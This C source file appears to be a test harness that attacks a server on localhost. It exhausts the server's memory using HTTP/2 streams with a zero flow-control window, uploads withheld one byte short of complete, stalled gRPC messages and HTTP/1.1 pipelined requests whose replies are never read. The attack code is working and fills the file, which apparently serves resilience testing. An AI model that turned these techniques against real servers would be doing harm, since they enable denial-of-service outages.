/* SPDX-License-Identifier: Apache-2.0 */
/* Makes a server at 127.0.0.1:PORT hold as much memory as possible, prints "attacking" once
 * everything is sent, and holds the connections until standard input ends.
 *
 *     memory_attack unread PORT CONNECTIONS PATH       HTTP/2 with a window of 0: 250 times GET PATH
 *     memory_attack uploads PORT CONNECTIONS PATH      HTTP/1.1: POST PATH with 4 MiB but the last byte
 *     memory_attack uploads2 PORT CONNECTIONS PATH     the same over HTTP/2, four at a time
 *     memory_attack messages PORT CONNECTIONS PATH     gRPC: eight streams of PATH, each with a message of
 *                                                      4 MiB but the last byte
 *     memory_attack pipeline PORT CONNECTIONS PATH     HTTP/1.1: GET PATH 250 times, read by nobody
 *
 * Connections that the server ends are left alone. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

enum {
    STREAMS = 250,
    UPLOAD = 4 * 1024 * 1024,
    CONNECTIONS_MAX = 4096,
    MESSAGES = 8,
    FRAME = 16384,
    WINDOW = 65535, /* of a stream: the default, since the settings are never acknowledged */
    PATIENCE = 500,
    PATIENCE_READING = 20
};

struct attacker {
    int fd; /* -1: ended */
};

static struct attacker attackers[CONNECTIONS_MAX];

static int open_one(int port)
{
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), on = 1;

    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (fd >= 0) setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof(on));
    if (fd >= 0 && connect(fd, (struct sockaddr *)&address, sizeof(address)) == 0) return fd;
    if (fd >= 0) close(fd);
    return -1;
}

/* Sends everything, or as much as the server reads before it stops reading for a while. */
static void send_all(struct attacker *attacker, const void *data, size_t size)
{
    const char *next = data;

    while (size > 0 && attacker->fd >= 0) {
        struct pollfd wait = {.fd = attacker->fd, .events = POLLOUT};
        if (poll(&wait, 1, PATIENCE) <= 0) return;
        ssize_t sent = send(attacker->fd, next, size, MSG_DONTWAIT | MSG_NOSIGNAL);
        if (sent < 0 && errno == EAGAIN) continue;
        if (sent < 0) {
            close(attacker->fd);
            attacker->fd = -1;
            return;
        }
        next += sent;
        size -= (size_t)sent;
    }
}

static void send_frame(struct attacker *attacker, const char *head_4, unsigned stream,
                       const void *payload, size_t size)
{
    unsigned char head[9] = {
        (unsigned char)(size >> 16),   (unsigned char)(size >> 8),   (unsigned char)size,
        (unsigned char)head_4[0],      (unsigned char)head_4[1],     0,
        (unsigned char)(stream >> 16), (unsigned char)(stream >> 8), (unsigned char)stream};

    send_all(attacker, head, sizeof(head));
    if (size > 0) send_all(attacker, payload, size);
}

/* Reads `size` bytes; false when they do not come. */
static bool receive(const struct attacker *attacker, void *data, size_t size)
{
    char *next = data;

    while (size > 0) {
        struct pollfd wait = {.fd = attacker->fd, .events = POLLIN};
        if (poll(&wait, 1, PATIENCE_READING) <= 0) return false;
        ssize_t received = recv(attacker->fd, next, size, 0);
        if (received <= 0) return false;
        next += received;
        size -= (size_t)received;
    }
    return true;
}

static unsigned number(const unsigned char *bytes)
{
    return (unsigned)bytes[0] << 24 | (unsigned)bytes[1] << 16 | (unsigned)bytes[2] << 8 | bytes[3];
}

/* One stream of `attack_messages`. */
struct upload {
    size_t window, left; /* left 0: the server has ended it or does not read it, or all is sent */
};

/* Handles one frame of the server; false when it sends none for now, or ends the connection. */
static bool receive_frame(const struct attacker *attacker, struct upload *uploads)
{
    unsigned char head[9], payload[FRAME];

    if (attacker->fd < 0 || !receive(attacker, head, sizeof(head))) return false;
    size_t size = number(head) >> 8, i = number(head + 5) / 2;
    if (size > sizeof(payload) || !receive(attacker, payload, size)) return false;
    bool known = number(head + 5) % 2 == 1 && i < MESSAGES;
    if (known && head[3] == 3) uploads[i].left = 0;
    if (known && head[3] == 8) uploads[i].window += number(payload);
    return head[3] != 7;
}

/* A header block of literals that the table does not keep. */
static size_t make_head(char *head, const char *method, const char *path)
{
    size_t size = 0, length = strlen(path);

    head[size++] = strcmp(method, "GET") == 0 ? (char)0x82 : (char)0x83;
    head[size++] = (char)0x86;
    head[size++] = 0x04;
    head[size++] = (char)length; /* below 127 */
    memcpy(head + size, path, length);
    size += length;
    memcpy(head + size, "\x01\x01x", 3);
    return size + 3;
}

static void start_http2(struct attacker *attacker, const char *settings, size_t size)
{
    static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

    send_all(attacker, preface, sizeof(preface) - 1);
    send_frame(attacker, "\4\0", 0, settings, size);
}

static void attack_unread(struct attacker *attacker, const char *path)
{
    char head[256];
    size_t size = make_head(head, "GET", path);

    start_http2(attacker, "\0\4\0\0\0\0", 6);
    for (unsigned i = 0; i < STREAMS; i++) send_frame(attacker, "\1\5", 1 + 2 * i, head, size);
}

static void attack_uploads2(struct attacker *attacker, const char *path)
{
    static char zeros[FRAME];
    char head[256];
    size_t size = make_head(head, "POST", path);

    start_http2(attacker, "", 0);
    for (unsigned i = 0; i < 4; i++) {
        send_frame(attacker, "\1\4", 1 + 2 * i, head, size);
        for (size_t sent = 0; sent < UPLOAD / 4; sent += FRAME)
            send_frame(attacker, "\0\0", 1 + 2 * i, zeros, FRAME);
    }
}

static void attack_messages(struct attacker *attacker, const char *path)
{
    static const char type[] = "\x0f\x10\x10"
                               "application/grpc"; /* content-type */
    static const char message[5] = {0, 0, UPLOAD >> 16, 0, 0};
    static char zeros[FRAME];
    struct upload uploads[MESSAGES];
    char head[256];
    size_t size = make_head(head, "POST", path);

    memcpy(head + size, type, sizeof(type) - 1);
    start_http2(attacker, "", 0);
    for (unsigned i = 0; i < MESSAGES; i++) {
        send_frame(attacker, "\1\4", 1 + 2 * i, head, size + sizeof(type) - 1);
        send_frame(attacker, "\0\0", 1 + 2 * i, message, sizeof(message));
        uploads[i] = (struct upload){WINDOW - sizeof(message), UPLOAD - 1};
    }
    /* All of them grow at the same time, so none is there before the others begin. */
    for (size_t sent = 0; sent < UPLOAD; sent += FRAME) {
        for (unsigned i = 0; i < MESSAGES; i++) {
            struct upload *upload = &uploads[i];
            size_t piece = upload->left < FRAME ? upload->left : FRAME;
            while (upload->left > 0 && upload->window < piece)
                if (!receive_frame(attacker, uploads)) upload->left = 0; /* it waits for others */
            if (upload->left == 0) continue;
            send_frame(attacker, "\0\0", 1 + 2 * i, zeros, piece);
            upload->window -= piece;
            upload->left -= piece;
        }
    }
}

static void attack_uploads(struct attacker *attacker, const char *path)
{
    static char zeros[UPLOAD];
    char head[512];
    int size = snprintf(head, sizeof(head),
                        "POST %s HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                        "Content-Length: %d\r\n\r\n",
                        path, UPLOAD + 1);

    send_all(attacker, head, (size_t)size);
    memset(zeros, ' ', sizeof(zeros));
    send_all(attacker, zeros, sizeof(zeros));
}

static void attack_pipeline(struct attacker *attacker, const char *path)
{
    char head[512];
    int size = snprintf(head, sizeof(head), "GET %s HTTP/1.1\r\nHost: x\r\n\r\n", path);

    for (int i = 0; i < STREAMS; i++) send_all(attacker, head, (size_t)size);
}

static const struct attack {
    const char *name;
    void (*run)(struct attacker *attacker, const char *path);
} attacks[] = {{"unread", attack_unread},
               {"uploads", attack_uploads},
               {"uploads2", attack_uploads2},
               {"messages", attack_messages},
               {"pipeline", attack_pipeline}};

int main(int argc, char **argv)
{
    const struct attack *attack = NULL;
    struct rlimit files;

    for (size_t i = 0; argc == 5 && i < sizeof(attacks) / sizeof(attacks[0]); i++)
        if (strcmp(argv[1], attacks[i].name) == 0) attack = &attacks[i];
    if (!attack) {
        fprintf(stderr,
                "usage: memory_attack unread|uploads|uploads2|messages|pipeline PORT COUNT PATH\n");
        return 2;
    }
    getrlimit(RLIMIT_NOFILE, &files);
    files.rlim_cur = files.rlim_max;
    setrlimit(RLIMIT_NOFILE, &files);
    signal(SIGPIPE, SIG_IGN);

    int port = (int)strtol(argv[2], 0, 10), count = (int)strtol(argv[3], 0, 10);
    for (int i = 0; i < count && i < CONNECTIONS_MAX; i++) {
        attackers[i].fd = open_one(port);
        if (attackers[i].fd >= 0) attack->run(&attackers[i], argv[4]);
    }
    printf("attacking\n");
    fflush(stdout);
    while (getchar() != EOF) continue;
    return 0;
}
